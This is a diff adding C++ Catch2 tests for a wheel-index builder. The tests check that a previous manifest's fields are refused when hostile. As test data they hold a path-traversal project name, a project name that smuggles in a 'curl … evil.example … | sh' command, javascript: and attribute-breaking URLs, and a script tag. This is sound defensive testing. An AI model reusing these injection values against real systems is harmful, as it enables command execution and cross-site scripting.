@@ -3,6 +3,9 @@
 // new index beside the new wheels.
 #include <catch2/catch.hpp>
 
+#include <fstream>
+#include <iostream>
+
 #include <nlohmann/json.hpp>
 
 #include "sagebuild/common/error.h"
@@ -76,6 +79,93 @@ TEST_CASE("previous manifest: what is not one is refused by name") {
       "project": "a", "version": "1", "torch": "2.8.0", "cuda": "12.9", "sha256": ")" +
                       std::string(64, 'a') + R"(", "size": 3, "requires_python": ""}]})";
   CHECK_THROWS_WITH(parse_previous_manifest(entry, "m.json"),
-                    Catch::Contains("wheels[0].url 'wheels/a.whl' is relative"));
+                    Catch::Contains("wheels[0].url 'wheels/a.whl': a relative URL") &&
+                        Catch::Contains("that site copied its wheels"));
   CHECK_THROWS_AS(read_previous_manifest("/nonexistent/manifest.json"), sb::UsageError);
+}
+
+namespace {
+
+// One previous wheel with `key` set to `value` (a JSON text), the rest valid.
+std::string manifest_with(const std::string& key, const std::string& value) {
+  nlohmann::json w = {{"filename", "sageattention-2.1.0-21100.130-cp310-abi3-manylinux_2_34_x86_64.whl"},
+                      {"url", "https://example.org/dl/x.whl"},
+                      {"project", "sageattention"},
+                      {"version", "2.1.0"},
+                      {"torch", "2.11.0"},
+                      {"cuda", "13.0"},
+                      {"sha256", std::string(64, 'a')},
+                      {"size", 1},
+                      {"requires_python", ">=3.10"},
+                      {"build_info", nullptr}};
+  w[key] = nlohmann::json::parse(value);
+  return nlohmann::json{{"variants", nlohmann::json::array()}, {"wheels", {w}}}.dump();
+}
+
+}  // namespace
+
+TEST_CASE("previous manifest: a valid entry passes the checks on every field") {
+  auto wheels = parse_previous_manifest(manifest_with("size", "1"), "m.json");
+  REQUIRE(wheels.size() == 1);
+  CHECK(wheels[0].variant == "torch2.11-cu130");
+}
+
+TEST_CASE("previous manifest: nothing in it is trusted (issue 25)") {
+  auto refused = [](const std::string& key, const std::string& value, const std::string& says) {
+    INFO(key << " = " << value);
+    CHECK_THROWS_WITH(parse_previous_manifest(manifest_with(key, value), "m.json"),
+                      Catch::StartsWith("m.json: wheels[0]." + key) && Catch::Contains(says));
+  };
+  // The project becomes a directory of the site and a word of its shell commands.
+  refused("project", R"("../../../../tmp/sb-outside")", "is not the normalized project name");
+  refused("project", R"("sageattention; curl -s https://evil.example/x | sh; echo")",
+          "is not the normalized project name");
+  refused("project", R"("SageAttention")", "e.g. 'sageattention'");
+  refused("project", R"("other")", "is not the normalized project name of its file name");
+  refused("filename", R"("../sageattention-2.1.0-21100.130-cp310-abi3-manylinux_2_34_x86_64.whl")",
+          "is not a wheel file name");
+  refused("filename", R"("x.whl")", "is not a wheel file name");
+  refused("version", R"("2.1.1")", "is not its file name's version '2.1.0'");
+  refused("url", R"j("javascript:alert(1)")j", "which a URL on the site must not");
+  refused("url", R"("javascript:x")", "not an http(s) or file URL");
+  refused("url", R"j("https://example.org/\"onmouseover=\"x")j", "'\"'");
+  refused("requires_python", R"("<script>")", "is not a specifier set");
+  CHECK_THROWS_WITH(parse_previous_manifest(manifest_with("torch", R"("x")"), "m.json"),
+                    Catch::StartsWith("m.json: wheels[0]: "));
+}
+
+TEST_CASE("previous manifest: nesting is bounded before parsing, not a stack overflow") {
+  std::string deep(100000, '[');
+  deep += std::string(100000, ']');
+  CHECK_THROWS_WITH(parse_previous_manifest(
+                        manifest_with("size", "1").replace(manifest_with("size", "1").find("null"), 4, deep), "m.json"),
+                    Catch::Contains("nested deeper than 32 levels"));
+}
+
+TEST_CASE("previous manifest: a file over the size cap is refused before it is read whole") {
+  fs::path root = testing::fresh_dir("previous_cap");
+  fs::path big = root / "manifest.json";
+  {
+    std::ofstream out(big, std::ios::binary);
+    std::string block(1 << 20, ' ');
+    for (int i = 0; i < 9; ++i) out << block;
+  }
+  CHECK_THROWS_WITH(read_previous_manifest(big), Catch::StartsWith("--previous " + big.string() + ": larger than"));
+}
+
+TEST_CASE("previous manifest: the shared fuzz findings are refused by name (skipped without them)") {
+  fs::path dir = fs::path(SAGEBUILD_FUZZ_FINDINGS_DIR) / "index-previous-traversal";
+  std::error_code ec;
+  if (!fs::is_directory(dir, ec)) {
+    std::cout << "SKIPPED: no " << dir.string() << " (../shared beside the checkout)\n";
+    return;
+  }
+  int n = 0;
+  for (const auto& e : fs::directory_iterator(dir)) {
+    if (e.path().extension() != ".json") continue;
+    INFO(e.path().string());
+    CHECK_THROWS_WITH(read_previous_manifest(e.path()), Catch::Contains("wheels[0].project"));
+    ++n;
+  }
+  CHECK(n == 3);
 }
